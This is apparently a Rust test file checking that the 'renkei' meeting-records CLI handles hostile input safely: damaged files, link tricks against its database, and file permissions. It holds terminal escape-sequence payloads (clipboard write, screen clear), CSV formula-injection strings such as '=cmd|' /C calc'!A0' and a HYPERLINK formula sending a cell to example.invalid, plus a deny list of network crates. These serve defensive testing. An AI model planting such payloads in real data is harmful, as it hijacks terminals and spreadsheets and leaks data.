//! Hostile input: broken and enormous files, foreign and damaged databases, escape sequences in
//! names and notes, terminals of every size, and the privacy of every file renkei writes.

mod common;

use std::process::Command;

use common::{NOW, TempDb, csv_cells, mode};

fn renkei(db: &TempDb) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_renkei"));
    cmd.env("RENKEI_NOW", NOW)
        .env("LANG", "ja_JP.UTF-8")
        .env("USER", "sato")
        .arg("--db")
        .arg(&db.path);
    cmd
}

fn export(db: &TempDb) -> Vec<u8> {
    let out = renkei(db).arg("export").output().unwrap();
    assert!(out.status.success());
    out.stdout
}

/// Imports `name` with `bytes` into a demo database: a clear one-line error naming the file, a
/// non-zero exit, no panic, and nothing changed.
fn refused(name: &str, bytes: &[u8], expected: &[&str]) {
    let db = common::demo_copy();
    let mut kept = Kept::of(&db);
    let path = db.file(name, bytes);
    // In English: the parts looked for are the readers' own words (said in Japanese by default).
    let out = renkei(&db)
        .args(["--lang", "en", "import"])
        .arg(&path)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{name} was accepted");
    assert_eq!(err.lines().count(), 1, "{name}: one line: {err}");
    assert!(
        err.starts_with("renkei: ") && err.contains(name),
        "{name}: {err}"
    );
    assert!(!err.contains("panicked"), "{name}: {err}");
    for part in expected {
        assert!(err.contains(part), "{name}: {err:?} lacks {part:?}");
    }
    assert!(
        err.len() < 400,
        "{name}: the message is short: {} bytes",
        err.len()
    );
    kept.assert_same(&db, name);
}

#[test]
fn malformed_files() {
    refused("unclosed.toml", b"[[bodies]]\nname = \"A\n", &["line"]);
    refused("types.toml", b"[[bodies]]\nname = 42\n", &["line 2"]);
    refused(
        "dup.toml",
        b"[[bodies]]\nname = \"A\"\nname = \"B\"\n",
        &["line 3"],
    );
    refused(
        "dup.json",
        br#"{"format":"renkei/1","bodies":[{"name":"A","name":"B"}]}"#,
        &["duplicate"],
    );
    refused(
        "truncated.json",
        br#"{"format":"renkei/1","bodies":[{"name":"#,
        &["line 1"],
    );
    refused("array.json", b"[1,2,3]", &["line 1"]);
    refused(
        "quote.csv",
        "会議名,主催者\n\"閉じていない,福祉課\n".as_bytes(),
        &[],
    );
    refused("empty.csv", b"", &["no row of a table", "empty"]);
}

#[test]
fn wrong_encodings_and_invalid_bytes() {
    // UTF-16 as Excel's "Unicode text" writes it.
    let mut utf16 = vec![0xFF, 0xFE];
    for unit in "会議名\t主催者\nA\tB\n".encode_utf16() {
        utf16.extend_from_slice(&unit.to_le_bytes());
    }
    refused("utf16.tsv", &utf16, &["line"]);
    refused(
        "latin1.toml",
        b"[[bodies]]\nname = \"Caf\xe9\"\n",
        &["UTF-8"],
    );
    let mut bad = "会議名\n正しい行\n".as_bytes().to_vec();
    bad.extend_from_slice(b"\x82\x00\xff\n");
    refused("bytes.csv", &bad, &["line 3"]);
}

#[test]
fn nul_bytes_are_refused_or_kept_but_never_crash() {
    refused("nul.toml", b"[[bodies]]\nname = \"A\x00B\"\n", &["line 2"]);
    let db = TempDb::new();
    let path = db.file("nul.csv", "会議名,主催者\nA\u{0}B,福祉課\n".as_bytes());
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
    if out.status.success() {
        let bodies = renkei(&db)
            .args(["bodies", "--format", "json"])
            .output()
            .unwrap();
        assert!(
            String::from_utf8_lossy(&bodies.stdout).contains("A\\u0000B"),
            "kept verbatim"
        );
    }
}

/// A field past the limit of one text and a long file with one bad row at its end. (A field of
/// 10 MB and 100 000 rows took five times the CPU and showed nothing more: the CSV is read whole
/// before its fields are checked, and the rows are written in one transaction either way.)
#[test]
fn a_field_past_the_limit_and_ten_thousand_rows() {
    let db = TempDb::new();
    let huge = "あ".repeat(1_300_000 / 3 + 1);
    let path = db.file(
        "huge.csv",
        format!("会議名,主な議題\n大きな会議,{huge}\n").as_bytes(),
    );
    // Over the limit of one text (1 MB, crate::limits): refused in one line naming the file and
    // the field, nothing imported.
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        err.contains("huge.csv") && err.contains("bodies[0].topics") && err.contains("1.3 MB"),
        "{err}"
    );
    assert_eq!(err.trim_end().lines().count(), 1, "{err}");
    // At the limit: taken, and cut to its column in a table.
    let large = "あ".repeat(1_000_000 / 3);
    let path = db.file(
        "large.csv",
        format!("会議名,主な議題\n大きな会議,{large}\n").as_bytes(),
    );
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let table = renkei(&db).arg("bodies").output().unwrap();
    assert!(table.status.success());
    assert!(
        table.stdout.len() < 10_000,
        "tables cut long text to the column"
    );

    // 10 000 rows with one bad one at the end: refused, naming that line, and nothing imported.
    let mut rows = String::from("会議名,個人情報の共有\n");
    for i in 0..10_000 {
        rows.push_str(&format!("会議{i},○\n"));
    }
    rows.push_str("最後の会議,たぶん\n");
    let path = db.file("many.csv", rows.as_bytes());
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(err.contains("10002行目"), "{err}");
    let json = renkei(&db)
        .args(["bodies", "--format", "json"])
        .output()
        .unwrap();
    let bodies: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(
        bodies.as_array().unwrap().len(),
        1,
        "only the earlier import"
    );
}

#[test]
fn databases_that_are_not_renkei_databases() {
    let cases: Vec<(&str, Vec<u8>)> = vec![
        (
            "text.db",
            "これはデータベースではない\n".repeat(200).into_bytes(),
        ),
        ("zeros.db", vec![0u8; 8192]),
        ("header.db", b"SQLite format 3\0".to_vec()),
    ];
    for (name, bytes) in cases {
        let db = TempDb::new();
        let path = db.file(name, &bytes);
        let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
            .arg("--db")
            .arg(&path)
            .arg("bodies")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{name} opened");
        assert_eq!(err.lines().count(), 1, "{name}: {err}");
        assert!(
            err.contains(name) && !err.contains("panicked"),
            "{name}: {err}"
        );
        assert_eq!(std::fs::read(&path).unwrap(), bytes, "{name} was changed");
    }
    // A real database cut short.
    let db = common::demo_copy();
    let whole = std::fs::read(&db.path).unwrap();
    let _ = std::fs::remove_file(db.path.with_file_name("renkei.db-wal"));
    let _ = std::fs::remove_file(db.path.with_file_name("renkei.db-shm"));
    std::fs::write(&db.path, &whole[..whole.len() / 3]).unwrap();
    let out = renkei(&db).arg("bodies").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!err.contains("panicked"), "{err}");
    if !out.status.success() {
        assert_eq!(err.lines().count(), 1, "{err}");
    }
}

#[test]
fn escape_sequences_are_inert_on_screen_and_in_tables_and_kept_in_the_database() {
    let db = common::demo_copy();
    let evil_name = "悪意\u{1b}]0;pwned\u{7}会議\u{1b}[2J\u{8}\u{202E}reversed";
    let json = serde_json::json!({
        "format": "renkei/1",
        "bodies": [{ "name": evil_name, "organiser": "\u{1b}[31m赤い課", "frequency": "年1回" }],
        "meetings": [{
            "body": evil_name, "date": "2026-11-30", "start": "10:00",
            "attendees": [{ "agency": "\u{1b}]52;c;ZXZpbA==\u{7}", "name": "山田\u{1b}[8m 花子" }],
            "agenda": [{ "title": "議題\u{1b}[5m", "notes": "メモ\u{1b}[?1049l\u{9b}31m", "decisions": [] }]
        }]
    });
    let path = db.file("evil.json", json.to_string().as_bytes());
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for args in [
        vec!["bodies"],
        vec!["meetings"],
        vec!["upcoming", "--days", "30"],
    ] {
        let out = renkei(&db).args(&args).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}') && !text.contains('\u{202E}'),
            "{args:?}: {text:?}"
        );
        assert!(!text.contains('\u{9b}'), "{args:?}");
    }
    // Kept verbatim in the database (JSON export shows the escapes as \u escapes).
    let exported = String::from_utf8(export(&db)).unwrap();
    assert!(exported.contains("\\u001b]0;pwned\\u0007"), "kept verbatim");
    // Minutes: escaped, visible, inert.
    let meetings = renkei(&db)
        .args(["meetings", "--format", "json"])
        .output()
        .unwrap();
    let list: serde_json::Value = serde_json::from_slice(&meetings.stdout).unwrap();
    let id = list
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["date"] == "2026-11-30" && m["start"] == "10:00")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let minutes = renkei(&db)
        .args(["minutes", &id.to_string()])
        .output()
        .unwrap();
    let md = String::from_utf8(minutes.stdout).unwrap();
    assert!(
        !md.contains('\u{1b}') && !md.contains('\u{7}') && !md.contains('\u{9b}'),
        "{md}"
    );
    assert!(md.contains('\u{241B}'), "ESC is shown as ␛");
}

#[test]
fn every_file_renkei_writes_is_private_whatever_the_umask() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("data");
    let db = root.join("renkei.db");
    let export = dir.path().join("all.json");
    let minutes = dir.path().join("minutes.md");
    let script = format!(
        "umask 000 && {bin} --db {db} demo >/dev/null && {bin} --db {db} export -o {export} && {bin} --db {db} minutes 1 -o {minutes}",
        bin = env!("CARGO_BIN_EXE_renkei"),
        db = db.display(),
        export = export.display(),
        minutes = minutes.display(),
    );
    let out = Command::new("sh")
        .arg("-c")
        .arg(&script)
        .env("RENKEI_NOW", NOW)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mode(&root), 0o700, "data directory");
    assert_eq!(mode(&db), 0o600, "database");
    for suffix in ["-wal", "-shm"] {
        let sidecar = root.join(format!("renkei.db{suffix}"));
        if sidecar.exists() {
            assert_eq!(mode(&sidecar) & 0o077, 0, "{suffix}");
        }
    }
    assert_eq!(mode(&export), 0o600, "export");
    assert_eq!(mode(&minutes), 0o600, "minutes");
}

#[test]
fn no_network_client_in_the_dependency_tree() {
    let out = Command::new(env!("CARGO"))
        .args(["tree", "--edges", "normal", "--prefix", "none", "--offline"])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let tree = String::from_utf8(out.stdout).unwrap();
    for client in [
        "reqwest",
        "hyper",
        "ureq",
        "curl",
        "isahc",
        "surf",
        "attohttpc",
        "tokio",
        "async-std",
        "rustls",
        "native-tls",
        "openssl",
    ] {
        assert!(
            !tree
                .lines()
                .any(|l| l.split_whitespace().next() == Some(client)),
            "{client} would let renkei reach the network"
        );
    }
}

/// The command succeeded; else its error is shown.
fn succeeded(out: &std::process::Output) {
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Stderr and stdout of a command that must have driven no terminal: no ESC, BEL, C1 control or
/// bidi override anywhere.
fn assert_inert(what: &str, text: &str) {
    let hazard = |c: char| {
        (c.is_control() && !matches!(c, '\n' | '\t'))
            || matches!(c, '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
    };
    assert!(
        !text.chars().any(hazard),
        "{what} drives the terminal: {text:?}"
    );
}

const OSC_AND_CSI: &str = "\u{1b}]0;乗っ取り\u{7}\u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7}";

#[test]
fn imported_text_in_an_error_never_drives_the_terminal() {
    let db = common::demo_copy();
    // A meeting book naming a body that does not exist: the error echoes the cell.
    let book = db.file(
        "book.csv",
        format!("開催日,会議体\n2020/4/15,\"偽{OSC_AND_CSI}会議\"\n").as_bytes(),
    );
    // JSON whose body and date hold escapes.
    let body = db.file(
        "body.json",
        serde_json::json!({"format": "renkei/1", "meetings": [{"body": format!("無い{OSC_AND_CSI}"), "date": "2026-11-30"}]})
            .to_string()
            .as_bytes(),
    );
    let date = db.file(
        "date.json",
        serde_json::json!({"format": "renkei/1", "meetings": [{"body": "就労支援部会", "date": format!("2026-11-{OSC_AND_CSI}")}]})
            .to_string()
            .as_bytes(),
    );
    for path in [&book, &body, &date] {
        let out = renkei(&db).arg("import").arg(path).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{path:?} was accepted");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert_inert(&format!("{path:?}"), &err);
    }
    // Names given on the command line are echoed too.
    for args in [
        vec!["meetings", "--body", OSC_AND_CSI],
        vec!["actions", "--agency", OSC_AND_CSI],
    ] {
        let out = renkei(&db).args(&args).output().unwrap();
        assert!(!out.status.success());
        assert_inert(args[0], &String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn json_and_messages_on_a_terminal_carry_no_raw_control_character() {
    let db = TempDb::new();
    let evil = "会議\u{9b}31m\u{202E}\u{7f}";
    let json = serde_json::json!({
        "format": "renkei/1",
        "bodies": [{ "name": evil, "organiser": "福祉課", "frequency": "年1回" }],
    });
    let path = db.file("c1.json", json.to_string().as_bytes());
    assert!(
        renkei(&db)
            .arg("import")
            .arg(&path)
            .output()
            .unwrap()
            .status
            .success()
    );
    for args in [vec!["bodies", "--format", "json"], vec!["export"]] {
        let out = renkei(&db).args(&args).output().unwrap();
        let text = String::from_utf8(out.stdout).unwrap();
        assert_inert(args[0], &text);
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert!(value.to_string().contains(evil), "the data is unchanged");
    }
    // A database path with an escape in it, echoed by demo and check.
    let dir = tempfile::tempdir().unwrap();
    let odd = dir.path().join("x\u{1b}[2Jy.db");
    for args in [vec!["demo"], vec!["check"]] {
        let out = common::renkei_at(&odd).args(&args).output().unwrap();
        succeeded(&out);
        assert_inert(args[0], &String::from_utf8_lossy(&out.stdout));
    }
}

/// A meeting scheduled on 2026-11-30 whose place holds escapes and a bare CR.
fn meeting_with_a_hostile_place(db: &TempDb) {
    let json = serde_json::json!({
        "format": "renkei/1",
        "bodies": [{ "name": "危険な会議体\u{1b}[2J", "organiser": "福祉課\r偽", "frequency": "年1回" }],
        "meetings": [{
            "body": "危険な会議体\u{1b}[2J", "date": "2026-11-30", "start": "10:00", "end": "11:00",
            "place": "第1会議室\u{1b}]0;x\u{7}\r偽の行;カンマ,付き",
        }]
    });
    let path = db.file("place.json", json.to_string().as_bytes());
    let out = renkei(db).arg("import").arg(&path).output().unwrap();
    succeeded(&out);
}

#[test]
fn icalendar_text_is_inert_and_escaped_per_rfc_5545() {
    let db = TempDb::new();
    meeting_with_a_hostile_place(&db);
    let out = renkei(&db)
        .args(["upcoming", "--format", "ics", "--days", "30"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let ics = String::from_utf8(out.stdout).unwrap();
    assert!(!ics.contains('\u{1b}') && !ics.contains('\u{7}'), "{ics:?}");
    // Every CR ends a content line; none stands alone inside a value.
    let bare_cr = ics
        .match_indices('\r')
        .filter(|(i, _)| !ics[i + 1..].starts_with('\n'));
    assert_eq!(bare_cr.count(), 0, "{ics:?}");
    let unfolded = ics.replace("\r\n ", "");
    let location = unfolded
        .lines()
        .find(|l| l.starts_with("LOCATION"))
        .unwrap_or_else(|| panic!("{ics}"));
    assert!(
        location.contains("\\n偽の行\\;カンマ\\,付き"),
        "{location:?}"
    );
}

fn no_formula(what: &str, cells: &[Vec<String>]) {
    for cell in cells.iter().flatten() {
        let number = cell.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
        assert!(
            number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{what}: a spreadsheet would run {cell:?}"
        );
    }
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"詳細\")",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=2+2",
];

#[test]
fn csv_exports_never_hand_a_spreadsheet_a_formula() {
    let db = TempDb::new();
    let actions: Vec<_> = FORMULAS
        .iter()
        .map(|f| serde_json::json!({ "agency": f, "text": f, "due": "2026-12-01" }))
        .collect();
    let json = serde_json::json!({
        "format": "renkei/1",
        "bodies": [{ "name": "=1+1", "organiser": "@福祉課", "frequency": "年1回" }],
        "meetings": [{
            "body": "=1+1", "date": "2026-10-01", "status": "held", "basis": "=2*3",
            "attendees": FORMULAS.iter().map(|f| serde_json::json!({ "agency": f })).collect::<Vec<_>>(),
            "actions": actions, "issues": ["-1+1"],
        }]
    });
    let path = db.file("formulas.json", json.to_string().as_bytes());
    let out = renkei(&db).arg("import").arg(&path).output().unwrap();
    succeeded(&out);
    let actions = renkei(&db)
        .args(["actions", "--format", "csv"])
        .output()
        .unwrap();
    assert!(actions.status.success());
    let cells = csv_cells(&actions.stdout);
    no_formula("actions", &cells);
    assert!(
        cells.iter().flatten().any(|c| c == "'=cmd|' /C calc'!A0"),
        "{cells:?}"
    );
    assert!(
        cells.iter().flatten().any(|c| c == "'\t=2+2"),
        "kept, behind a quote"
    );
    let report = renkei(&db)
        .args(["report", "--fiscal-year", "2026", "--format", "csv"])
        .output()
        .unwrap();
    assert!(report.status.success());
    let cells = csv_cells(&report.stdout);
    no_formula("report", &cells);
    assert!(cells.iter().flatten().any(|c| c == "'-1+1"), "{cells:?}");
    // Numbers stay numbers.
    assert!(cells.iter().flatten().any(|c| c.parse::<f64>().is_ok()));
}

#[test]
fn imports_keep_a_cell_as_typed() {
    let db = TempDb::new();
    let book = db.file(
        "book.csv",
        "開催日,会議体,参加機関\n2020/4/15,就労支援部会,\"\t=2+2、 福祉課　\"\n".as_bytes(),
    );
    assert!(renkei(&db).arg("demo").output().unwrap().status.success());
    let out = renkei(&db)
        .arg("import")
        .arg(&book)
        .arg("--create-bodies")
        .output()
        .unwrap();
    succeeded(&out);
    let bodies = db.file(
        "bodies.csv",
        "会議名,主催者\n\"\t=2+2\",\" 福祉課 \"\n".as_bytes(),
    );
    let out = renkei(&db).arg("import").arg(&bodies).output().unwrap();
    succeeded(&out);
    let exported = String::from_utf8(export(&db)).unwrap();
    assert!(
        exported.contains("\"agency\": \"\\t=2+2\""),
        "agency kept as typed"
    );
    assert!(
        exported.contains("\"agency\": \"福祉課\""),
        "spaces trimmed"
    );
    assert!(
        exported.contains("\"name\": \"\\t=2+2\""),
        "body name kept as typed"
    );
}

#[test]
fn an_error_says_its_cause_once() {
    let dir = tempfile::tempdir().unwrap();
    // A database under a regular file: its directory cannot be made.
    let file = dir.path().join("plain");
    std::fs::write(&file, b"x").unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
        .arg("--db")
        .arg(file.join("renkei.db"))
        .arg("bodies")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert_eq!(err.lines().count(), 1, "{err}");
    let cause = "ディレクトリではありません";
    assert_eq!(err.matches(cause).count(), 1, "{err}");
}

/// Every print to a terminal or into a file passes the one sanitiser (`renkei::text`): a line that
/// prints, outside the TUI (whose screen is drawn from cells and tested in tests/tui.rs), says
/// `inert` — a call of it, or a comment naming why its text is already inert.
#[test]
fn no_print_bypasses_the_sanitiser() {
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut files = Vec::new();
    let mut dirs = vec![src.clone()];
    while let Some(dir) = dirs.pop() {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else if path.extension().is_some_and(|e| e == "rs") {
                files.push(path);
            }
        }
    }
    let anywhere = [
        "println!",
        "print!(",
        "eprintln!",
        "eprint!(",
        "dbg!(",
        "io::stdout()",
        "io::stderr()",
    ];
    let in_commands = ["writeln!(", "write!(", ".write_all("];
    let mut bypasses = Vec::new();
    for path in files {
        let relative = path
            .strip_prefix(&src)
            .unwrap()
            .to_string_lossy()
            .into_owned();
        if relative.starts_with("tui/") {
            continue;
        }
        let commands = relative.starts_with("cli/") || relative == "main.rs";
        let text = std::fs::read_to_string(&path).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        for (i, line) in lines.iter().enumerate() {
            let code = line.split("//").next().unwrap_or("");
            let prints = anywhere.iter().any(|p| code.contains(p))
                || (commands && in_commands.iter().any(|p| code.contains(p)));
            let said = line.contains("inert") || (i > 0 && lines[i - 1].contains("inert"));
            if prints && !said && !line.trim_start().starts_with("//") {
                bypasses.push(format!("src/{relative}:{}: {}", i + 1, line.trim()));
            }
        }
    }
    assert!(
        bypasses.is_empty(),
        "prints that bypass renkei::text::inert:\n{}",
        bypasses.join("\n")
    );
}

/// Every way of writing a file (`-o` of export, minutes, report and actions; backup) aimed at the
/// database, its -wal or -shm, or a hard or symbolic link to them: refused with one line, and
/// nothing changed.
#[test]
fn no_output_can_overwrite_the_database() {
    let db = common::demo_copy();
    let mut kept = Kept::of(&db);
    let dir = db.dir.path();
    let hard = dir.join("hard.json");
    std::fs::hard_link(&db.path, &hard).unwrap();
    let soft = dir.join("soft.json");
    std::os::unix::fs::symlink(&db.path, &soft).unwrap();
    let soft_wal = dir.join("soft-wal.json");
    std::os::unix::fs::symlink(dir.join("renkei.db-wal"), &soft_wal).unwrap();
    let relative = std::path::PathBuf::from("renkei.db");
    let targets = [
        db.path.clone(),
        dir.join("renkei.db-wal"),
        dir.join("renkei.db-shm"),
        hard.clone(),
        soft.clone(),
        soft_wal,
        relative,
    ];
    for target in &targets {
        let t = target.to_str().unwrap();
        for args in [
            vec!["export", "-o", t],
            vec!["minutes", "1", "-o", t],
            vec!["report", "--fiscal-year", "2026", "-o", t],
            vec!["actions", "-o", t],
            vec!["backup", "--force", t],
        ] {
            let out = renkei(&db).current_dir(dir).args(&args).output().unwrap();
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(!out.status.success(), "{args:?} was allowed");
            assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
            assert!(err.contains("データベースそのもの"), "{args:?}: {err}");
            kept.assert_same(&db, &format!("{args:?}"));
        }
    }
    // The links are still links to the database, and no stray file was left.
    use std::os::unix::fs::MetadataExt;
    let ino = std::fs::metadata(&db.path).unwrap().ino();
    assert_eq!(std::fs::metadata(&hard).unwrap().ino(), ino);
    assert!(
        std::fs::symlink_metadata(&soft)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let stray: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.') && n != renkei::store::temp::DIR_NAME)
        .collect();
    assert!(stray.is_empty(), "{stray:?}");
}

/// What a database held, to tell that a command changed nothing in it.
struct Kept {
    /// Its file with every connection closed.
    bytes: Vec<u8>,
    /// Its export, made the first time its bytes were not enough to tell.
    export: std::cell::OnceCell<Vec<u8>>,
}

impl Kept {
    fn of(db: &TempDb) -> Kept {
        Kept {
            bytes: db.bytes(),
            export: std::cell::OnceCell::new(),
        }
    }

    /// Asserts that the database holds what it held: the same bytes with nothing in its log are
    /// the same database; only otherwise are the exports compared (a tenth of a second each in a
    /// debug build). The same database in other bytes (`report` keeps its derived tables up to
    /// date even when its output is refused) is then told by its new bytes: the export of what
    /// it held is made once, not twice for each command after (`no_output_can_overwrite_the_
    /// database` made seventy exports, 8 s of its 11 s of CPU).
    fn assert_same(&mut self, db: &TempDb, what: &str) {
        let file = || {
            let wal = db.path.with_file_name("renkei.db-wal");
            let logged = std::fs::metadata(wal).is_ok_and(|m| m.len() > 0);
            (!logged).then(|| std::fs::read(&db.path).unwrap())
        };
        if file().is_some_and(|now| now == self.bytes) {
            return;
        }
        let before = self
            .export
            .get_or_init(|| export(&TempDb::holding(&self.bytes)));
        assert_eq!(&export(db), before, "{what} changed the database");
        // (Read after the export, which may write too.)
        if let Some(now) = file() {
            self.bytes = now;
        }
    }
}

/// The TUI's `w` writes minutes and reports through the same function: a file named as the
/// export would be, planted as a link to the database, is refused too.
#[test]
fn the_screens_writer_refuses_the_database_too() {
    let db = TempDb::new();
    let mut store = db.open();
    renkei::demo::load(&mut store).unwrap();
    let before = common::dump(&store);
    let planted = db.dir.path().join("minutes-2026-11-21-1.md");
    std::os::unix::fs::symlink(&db.path, &planted).unwrap();
    let err = renkei::store::write_private(&planted, b"# minutes").unwrap_err();
    assert!(err.to_string().contains("database"), "{err}");
    let wal = db.dir.path().join("renkei.db-wal");
    assert!(renkei::store::write_private(&wal, b"x").is_err());
    assert_eq!(common::dump(&store), before);
    drop(store);
    assert_eq!(common::dump(&db.open()), before);
}

/// `--db file:…` is a file of that name, never an SQLite URI: the database is created where the
/// permissions are applied, and `check` reports on it.
#[test]
fn a_database_path_is_never_a_uri() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let uri = format!("file:{}/x.db", root.display());
    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
        .current_dir(root)
        .env("RENKEI_NOW", NOW)
        .args(["--db", &uri, "demo"])
        .output()
        .unwrap();
    succeeded(&out);
    assert!(!root.join("x.db").exists(), "the URI's file was created");
    let file = root.join(&uri);
    assert!(
        std::fs::read(&file)
            .unwrap()
            .starts_with(b"SQLite format 3\0")
    );
    assert_eq!(mode(&file), 0o600);
    let out = Command::new(env!("CARGO_BIN_EXE_renkei"))
        .current_dir(root)
        .args(["--db", &uri, "check"])
        .output()
        .unwrap();
    succeeded(&out);
    let report = String::from_utf8_lossy(&out.stdout);
    assert!(
        report.contains("会議: ") || report.contains("meetings: "),
        "{report}"
    );
    assert!(
        !report.contains("会議: 0"),
        "check looked at the real database: {report}"
    );
}

/// The login of the real uid, as `id -un` says it.
fn real_login() -> String {
    let out = Command::new("id").arg("-un").output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// `USER=bob renkei approve` run by someone else records who really ran it — with the config's
/// name beside the login, never instead of it — in the approval and the audit.
#[test]
fn the_acting_user_is_the_real_uid_not_user() {
    let db = common::demo_copy();
    let held = renkei(&db)
        .args(["meetings", "--format", "json"])
        .output()
        .unwrap();
    let list: serde_json::Value = serde_json::from_slice(&held.stdout).unwrap();
    let id = list
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["status"] == "held")
        .unwrap()["id"]
        .to_string();
    let config = db.file("config.toml", "name = \"ボブ\"\n".as_bytes());
    let out = renkei(&db)
        .env("USER", "bob")
        .env("LOGNAME", "bob")
        .env("RENKEI_CONFIG", &config)
        .args(["approve", &id])
        .output()
        .unwrap();
    succeeded(&out);
    let me = real_login();
    let signature = format!("{me} (ボブ)");
    assert!(String::from_utf8_lossy(&out.stdout).contains(&signature));
    let audit = renkei(&db)
        .env("USER", "bob")
        .args(["audit", "--meeting", &id, "--format", "json"])
        .output()
        .unwrap();
    let rows: serde_json::Value = serde_json::from_slice(&audit.stdout).unwrap();
    let approval = rows
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["action"] == "approve_minutes")
        .unwrap();
    assert_eq!(approval["by"], signature.as_str(), "{approval}");
    assert!(!rows.to_string().contains("\"bob\""), "{rows}");
    let minutes = renkei(&db).args(["minutes", &id]).output().unwrap();
    assert!(String::from_utf8_lossy(&minutes.stdout).contains(&signature));
}

/// A gid the user is not in, for a stranger group's directory.
fn stranger_gid() -> u32 {
    let out = Command::new("id").arg("-G").output().unwrap();
    let mine: Vec<u32> = String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .map(|g| g.parse().unwrap())
        .collect();
    (4242..).find(|g| !mine.contains(g)).unwrap()
}

fn setgid_dir(path: &std::path::Path, gid: u32) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::create_dir(path).unwrap();
    std::os::unix::fs::chown(path, None, Some(gid)).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o2770)).unwrap();
}

#[test]
fn a_setgid_directory_of_a_stranger_group_shares_nothing() {
    let db = common::demo_copy();
    let strangers = db.dir.path().join("strangers");
    setgid_dir(&strangers, stranger_gid());
    let export = strangers.join("all.json");
    succeeded(
        &renkei(&db)
            .arg("export")
            .arg("-o")
            .arg(&export)
            .output()
            .unwrap(),
    );
    assert_eq!(mode(&export), 0o600, "export");
    let minutes = strangers.join("minutes.md");
    succeeded(
        &renkei(&db)
            .args(["minutes", "1", "-o"])
            .arg(&minutes)
            .output()
            .unwrap(),
    );
    assert_eq!(mode(&minutes), 0o600, "minutes");
    let backup = strangers.join("copy.db");
    succeeded(&renkei(&db).arg("backup").arg(&backup).output().unwrap());
    assert_eq!(mode(&backup), 0o600, "backup");
    let theirs = strangers.join("renkei.db");
    succeeded(&common::renkei_at(&theirs).arg("demo").output().unwrap());
    assert_eq!(mode(&theirs), 0o600, "database");
}

#[test]
fn directories_made_under_a_shared_one_are_shared_alike() {
    let dir = tempfile::tempdir().unwrap();
    let section = dir.path().join("section");
    let out = Command::new("id").arg("-g").output().unwrap();
    let gid = String::from_utf8(out.stdout)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    setgid_dir(&section, gid);
    let db = section.join("2026").join("ward").join("renkei.db");
    succeeded(&common::renkei_at(&db).arg("demo").output().unwrap());
    assert_eq!(mode(&section.join("2026")), 0o2770);
    assert_eq!(mode(&section.join("2026").join("ward")), 0o2770);
    assert_eq!(mode(&db), 0o660);
}

#[test]
fn check_warns_about_a_read_only_sidecar_and_says_how_to_mend_it() {
    let db = TempDb::new();
    let store = db.open();
    let shm = db.dir.path().join("renkei.db-shm");
    assert!(shm.exists());
    std::fs::set_permissions(&shm, std::os::unix::fs::PermissionsExt::from_mode(0o400)).unwrap();
